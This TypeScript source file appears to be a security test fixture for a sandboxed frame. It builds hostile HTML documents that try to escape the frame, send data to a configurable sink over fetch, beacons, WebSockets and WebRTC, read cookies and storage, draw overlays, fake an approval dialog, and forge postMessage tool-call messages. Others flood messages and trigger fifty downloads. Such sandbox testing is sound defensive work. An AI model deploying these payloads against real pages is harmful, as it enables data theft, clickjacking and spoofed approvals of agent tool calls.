/** Where hostile documents try to send data: an HTTP server, and a STUN server for WebRTC. */
export type Sink = { http: string; stun: string };

/** A document that attacks the page. It shows `tried` when its attempts are over. */
export type HostileDocument = { title: string; html: string };

const SCRIPT_END = '</script>';
const script = (code: string): string => `<script>${code}${SCRIPT_END}`;
/** Runs attempts of which each may throw, and shows what they returned. */
const attempts = (...codes: string[]): string =>
  script(`(async () => {
    const say = (text) => document.querySelector('#out').append(text + '\\n');
    for (const attempt of [${codes.map((code) => `async () => { ${code} }`).join(', ')}]) {
      try {
        const value = await Promise.race([attempt(), new Promise((r) => setTimeout(() => r('waited'), 800))]);
        if (value !== undefined) say(String(value));
      } catch (error) { say(error.name); }
    }
    say('tried');
  })()`);
const quoted = (html: string): string => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

export function hostileDocuments({ http, stun }: Sink): HostileDocument[] {
  const webRtc = (window: string): string =>
    `const peer = new ${window}.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }], iceCandidatePoolSize: 4 });
    peer.createDataChannel('x'); peer.setLocalDescription(); globalThis.kept = peer;`;
  const inFrame = (attributes = ''): string =>
    `<iframe ${attributes} srcdoc="${quoted(script(webRtc('window')))}"></iframe>`;
  const documents: [title: string, body: string][] = [
    [
      'Navigation of the page',
      `<a id="top" href="${http}/top-link" target="_top">x</a><a id="parent" href="${http}/parent-link" target="_parent">x</a>` +
        attempts(
          `top.location = '${http}/top'`,
          `parent.location.href = '${http}/parent'`,
          `top.history.back()`,
          `document.querySelector('#top').click()`,
          `document.querySelector('#parent').click()`,
          `top.close()`,
        ),
    ],
    [
      'Navigation of itself',
      `${script(`setTimeout(() => { location.href = '${http}/self?data'; }, 300)`)}<p>tried</p>`,
    ],
    [
      'Popups and forms',
      `<form id="f" action="${http}/form" method="post" target="_top"><input name="a" value="secret"></form>
      <form id="g" action="${http}/form-get"><button formaction="${http}/formaction" formtarget="_blank">x</button></form>
      <a id="blank" href="${http}/blank" target="_blank" ping="${http}/ping">x</a>` +
        attempts(
          `return String(window.open('${http}/open'))`,
          `document.querySelector('#f').submit()`,
          `document.querySelector('#g button').click()`,
          `document.querySelector('#blank').click()`,
          `alert('x')`,
          `return String(confirm('Allow?'))`,
          `print()`,
        ),
    ],
    [
      'Overlay over the page',
      `<div style="position:fixed;inset:-2000px;z-index:2147483647;background:red" popover id="p">Click</div><dialog id="d">Click</dialog>` +
        attempts(
          `document.querySelector('#p').showPopover()`,
          `document.querySelector('#d').showModal()`,
          `await document.documentElement.requestFullscreen()`,
          `await document.documentElement.requestPointerLock()`,
          `parent.resizeTo(5000, 5000)`,
          `document.documentElement.style.height = '100000px'; window.focus()`,
        ),
    ],
    [
      'Storage and the window of the page',
      attempts(
        `return 'cookie ' + document.cookie`,
        `document.cookie = 'planted=1'`,
        `return 'parent ' + parent.document.title`,
        `return 'top ' + top.localStorage.length`,
        `return 'frame ' + top[0].document.title`,
        `return 'stored ' + Object.keys(localStorage).join()`,
        `indexedDB.open('x')`,
        `await caches.open('x')`,
        `return 'origin ' + self.origin`,
        `return 'opener ' + window.opener`,
      ),
    ],
    [
      'Requests to other hosts',
      `<style>@import url('${http}/import.css'); @font-face { font-family: x; src: url('${http}/font.woff2') }
        body { background: url('${http}/background.png'); font-family: x }</style>
      <link rel="stylesheet" href="${http}/style.css"><link rel="icon" href="${http}/icon.ico">
      <img src="${http}/image.png" srcset="${http}/image2.png 2x"><video src="${http}/video.mp4" poster="${http}/poster.png"></video>
      <script src="${http}/script.js">${SCRIPT_END}<object data="${http}/object"></object><embed src="${http}/embed">
      <iframe src="${http}/frame"></iframe><svg><use href="${http}/use.svg#x"/><image href="${http}/svg.png"/></svg>
      <input type="image" src="${http}/input.png"><audio src="${http}/audio.mp3"></audio>` +
        attempts(
          `await fetch('${http}/fetch?data')`,
          `await fetch('${http}/keepalive', { method: 'POST', body: 'data', mode: 'no-cors', keepalive: true })`,
          `return 'beacon ' + navigator.sendBeacon('${http}/beacon', 'data')`,
          `await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = () => fail(new Error()); x.open('GET', '${http}/xhr'); x.send(); })`,
          `await new Promise((done, fail) => { const s = new WebSocket('${http.replace('http', 'ws')}/socket'); s.onopen = done; s.onerror = () => fail(new Error()); })`,
          `await new Promise((done, fail) => { const s = new EventSource('${http}/events'); s.onopen = done; s.onerror = () => fail(new Error()); })`,
          `new Image().src = '${http}/new-image?data'`,
          `await import('${http}/module.js')`,
          `await new Promise((done) => { new Worker(URL.createObjectURL(new Blob(["fetch('${http}/worker').then(() => postMessage(1), () => postMessage(0))"]))).onmessage = done; })`,
          `await new Promise((done) => { new Worker(URL.createObjectURL(new Blob(["try { importScripts('${http}/scripts.js') } catch { postMessage(0) }"]))).onmessage = done; })`,
          `await new FontFace('y', "url('${http}/face.woff2')").load()`,
          `const base = document.createElement('base'); base.href = '${http}/'; document.head.append(base); await fetch('relative')`,
        ),
    ],
    [
      'WebRTC',
      // Each of these removes or avoids what would remove the frame.
      `<div><template shadowrootmode="closed">${inFrame()}</template></div>` +
        script(`for (const owner of [Element.prototype, Document.prototype, Node.prototype, MutationObserver.prototype])
          for (const name of ['remove', 'querySelectorAll', 'getRootNode', 'observe']) if (name in owner) owner[name] = () => null;
          Object.defineProperty(window, 'length', { value: 0 });`) +
        inFrame() +
        attempts(
          webRtc('window'),
          `const frame = document.createElement('iframe'); document.body.append(frame); ${webRtc('frame.contentWindow')}`,
          `const host = document.createElement('div'); host.attachShadow({ mode: 'open', clonable: true });
          const copy = host.cloneNode(true); document.body.append(copy);
          (copy.shadowRoot ?? copy).innerHTML = ${JSON.stringify(inFrame()).replaceAll('</', '<\\/')}`,
          `location.href = 'javascript:void 0'`,
          `return new Promise((done) => setTimeout(() => done('later'), 700))`,
        ),
    ],
    [
      'Prefetching and refresh',
      `<link rel="prefetch" href="${http}/prefetch"><link rel="preload" as="image" href="${http}/preload">
      <link rel="prerender" href="${http}/prerender"><link rel="modulepreload" href="${http}/modulepreload">
      <link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}"><link rel="manifest" href="${http}/manifest">
      <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${http}/speculation"]}],"prerender":[{"source":"list","urls":["${http}/speculation2"]}]}${SCRIPT_END}
      ${attempts(`return new Promise((done) => setTimeout(() => done('later'), 500))`)}
      <meta http-equiv="refresh" content="1; url=${http}/refresh?data">`,
    ],
    [
      'Flood of messages',
      attempts(`const big = 'x'.repeat(2000000); for (let i = 0; i < 5; i++) parent.postMessage(big, '*');
        for (let i = 0; i < 30000; i++) parent.postMessage({ i }, '*');
        for (let i = 0; i < 3000; i++) console.log(i)`),
    ],
    [
      'Imitation of the page',
      `<div role="dialog" style="border:1px solid;border-radius:12px;padding:1em"><b>Needs your approval</b><p>delete_everything</p><button>Allow once</button></div>` +
        attempts(
          `for (const target of [parent, top]) {
            target.postMessage({ toolyard: 'ready' }, '*');
            target.postMessage({ toolyard: 'report', report: { kind: 'link', url: 'javascript:document.title="owned"' } }, '*');
            target.postMessage({ toolyard: 'report', json: '{"kind":"blocked","url":"https://trusted.example/"}' }, '*');
            target.postMessage({ toolyard: 'load', html: 'x', query: 'connect=https://a.example', allow: 'camera' }, '*');
            target.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'x' } }, '*');
          }`,
          `console.error('<img src=x onerror=alert(1)> [click](${http}/markdown)')`,
        ),
    ],
    [
      'Service worker and downloads',
      attempts(
        `await navigator.serviceWorker.register('/frame/content')`,
        `await navigator.serviceWorker.register(URL.createObjectURL(new Blob([''], { type: 'text/javascript' })))`,
        `for (let i = 0; i < 50; i++) { const a = document.createElement('a'); a.download = 'bomb' + i + '.exe'; a.href = URL.createObjectURL(new Blob(['x'])); document.body.append(a); a.click(); }`,
        `new SharedWorker('data:text/javascript,1')`,
        `await navigator.clipboard.readText()`,
        `await navigator.mediaDevices.getUserMedia({ audio: true })`,
        `await Notification.requestPermission().then((answer) => { if (answer === 'granted') return 'granted'; })`,
      ),
    ],
    ['Infinite loop', `<p>tried</p>${script('setTimeout(() => { for (;;); }, 500)')}`],
  ];
  return documents.map(([title, body]) => ({
    title,
    html: `<!doctype html>\n<title>${title}</title>\n<pre id="out"></pre>\n${body}`,
  }));
}
